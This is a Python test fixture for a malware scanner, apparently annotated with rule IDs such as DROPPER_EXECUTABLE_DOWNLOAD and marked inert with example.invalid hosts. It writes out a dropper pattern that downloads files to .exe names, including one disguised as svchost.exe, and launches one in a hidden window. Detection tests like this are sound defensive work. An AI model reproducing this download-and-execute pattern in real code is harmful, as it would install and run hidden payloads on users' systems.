# canary-test: path=mypkg/win.py artifact=wheel
# Download to an .exe name and start it. Inert: example.invalid, never called,
# written under a temporary directory.
import os
import subprocess
import tempfile
import urllib.request

import requests


def stage():
    dest = os.path.join(tempfile.gettempdir(), "svchost.exe")
    # ruleid: DROPPER_EXECUTABLE_DOWNLOAD, executable_file_target
    urllib.request.urlretrieve("https://example.invalid/a", tempfile.gettempdir() + "\\svc.exe")
    # ruleid: DROPPER_EXECUTABLE_DOWNLOAD
    data = requests.get("https://example.invalid/b").content
    # ruleid: DROPPER_EXECUTABLE_DOWNLOAD, executable_file_target
    with open("C:\\Users\\Public\\upd.exe", "wb") as f:
        f.write(data)
    # ruleid: DROPPER_EXECUTABLE_DOWNLOAD
    subprocess.Popen([dest], creationflags=0x08000000)
# ok: DROPPER_DOWNLOAD_CHMOD_RUN
